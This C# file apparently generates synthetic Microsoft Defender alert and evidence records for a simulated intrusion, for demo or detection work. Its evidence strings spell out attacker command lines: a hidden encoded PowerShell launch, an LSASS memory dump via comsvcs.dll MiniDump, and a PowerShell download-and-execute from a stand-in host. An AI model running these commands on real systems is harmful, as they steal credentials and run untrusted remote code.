using Drever.Ingest.Demo.World;

namespace Drever.Ingest.Demo.Intrusion;

/// <summary>What the product noticed of it: AlertInfo and AlertEvidence.</summary>
internal sealed class Alerts(DemoOutput output, Company company, Timeline time, Mail mail)
{
    private const string Endpoint = "Microsoft Defender for Endpoint";
    private int _number;

    public void Emit()
    {
        Raise(time.Macro.AddMinutes(3), "Suspicious PowerShell command line", "Execution", "Medium", Endpoint, "EDR", """["PowerShell (T1059.001)","Malicious File (T1204.002)"]""",
            Process(company.VictimDevice, Programs.PowerShell, $"powershell.exe -nop -w hidden -enc {Foothold.EncodedScript}", company.Victim), File(company.VictimDevice, Programs.Loader), User(company.Victim));
        Raise(time.CredentialDump.AddMinutes(4), "Sensitive credential memory read", "CredentialAccess", "High", Endpoint, "EDR", """["LSASS Memory (T1003.001)"]""",
            Process(company.VictimDevice, Programs.Rundll32, @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 812 C:\Windows\Temp\d.dmp full", company.Victim), Machine(company.VictimDevice));
        Raise(time.LateralMovement.AddMinutes(9), "Suspicious WMI process creation", "LateralMovement", "Medium", Endpoint, "EDR", """["Windows Management Instrumentation (T1047)"]""",
            Process(company.FileServer, Programs.PowerShell, "powershell.exe -nop -w hidden -c iwr https://cdn.sync-assets.example/b.ps1 -UseBasicParsing | iex", company.BackupAccount), Machine(company.FileServer), User(company.BackupAccount));
        Raise(time.Exfiltration.AddMinutes(40), "Possible data exfiltration", "Exfiltration", "High", Endpoint, "EDR", """["Exfiltration to Cloud Storage (T1567.002)"]""",
            File(company.FileServer, Programs.Exfiltrator), row => row.Set("EntityType", "Ip").Set("RemoteIP", Site.Drop.Ip), row => row.Set("EntityType", "Url").Set("RemoteUrl", $"https://{Site.Drop.Host}"));
        Raise(time.CloudAccess.AddMinutes(30), "Suspicious inbox manipulation rule", "DefenseEvasion", "Medium", "Microsoft Defender for Cloud Apps", "Cloud App Security", """["Hide Artifacts: Email Hiding Rules (T1564.008)"]""",
            User(company.Victim), row => row.Set("EntityType", "Ip").Set("RemoteIP", Site.IntruderIp));
        Raise(time.Response, "Email messages containing malicious URL removed after delivery", "InitialAccess", "Informational", "Microsoft Defender for Office 365", "Microsoft Defender for Office 365", """["Spearphishing Link (T1566.002)"]""",
            row => row.Set("EntityType", "MailMessage").Set("NetworkMessageId", mail.MessageId).Set("EmailSubject", mail.Subject), row => row.Set("EntityType", "Url").Set("RemoteUrl", PhishingMail.Url));
    }

    private static Action<DemoRow> User(Account account) => row => row.Set("EntityType", "User").Set("AccountName", account.Name).Set("AccountDomain", account.Domain).Set("AccountSid", account.Sid).Set("AccountObjectId", account.ObjectId).Set("AccountUpn", account.Upn);

    private static Action<DemoRow> Machine(Device device) => row => row.Set("EntityType", "Machine").Set("DeviceId", device.Id).Set("DeviceName", device.Name).Set("LocalIP", device.Ip);

    private static Action<DemoRow> File(Device device, DemoProgram program) => row => row.Set("EntityType", "File").Set("FileName", program.FileName).Set("FolderPath", program.Folder).Set("SHA1", program.Sha1).Set("SHA256", program.Sha256)
        .Set("FileSize", program.Size).Set("DeviceId", device.Id).Set("DeviceName", device.Name);

    private static Action<DemoRow> Process(Device device, DemoProgram program, string commandLine, Account account) => row => row.Set("EntityType", "Process").Set("FileName", program.FileName).Set("FolderPath", program.Folder).Set("SHA1", program.Sha1)
        .Set("SHA256", program.Sha256).Set("ProcessCommandLine", commandLine).Set("AccountName", account.Name).Set("AccountDomain", account.Domain).Set("AccountSid", account.Sid).Set("AccountUpn", account.Upn).Set("DeviceId", device.Id).Set("DeviceName", device.Name);

    private void Raise(DateTime at, string title, string category, string severity, string service, string detection, string techniques, params Action<DemoRow>[] evidence)
    {
        var id = FormattableString.Invariant($"da{638_000_000_000_000_000 + (++_number * 7_919)}_{at.Ticks % 1_000_000_000}");
        output.Row("AlertInfo", at).Set("AlertId", id).Set("Title", title).Set("Category", category).Set("Severity", severity).Set("ServiceSource", service).Set("DetectionSource", detection).Set("AttackTechniques", techniques);
        foreach (var set in evidence)
        {
            var row = output.Row("AlertEvidence", at).Set("AlertId", id).Set("Title", title).Set("Categories", $"[\"{category}\"]").Set("Severity", severity).Set("ServiceSource", service).Set("DetectionSource", detection)
                .Set("AttackTechniques", techniques).Set("EvidenceRole", "Related").Set("EvidenceDirection", "Source");
            set(row);
        }
    }
}
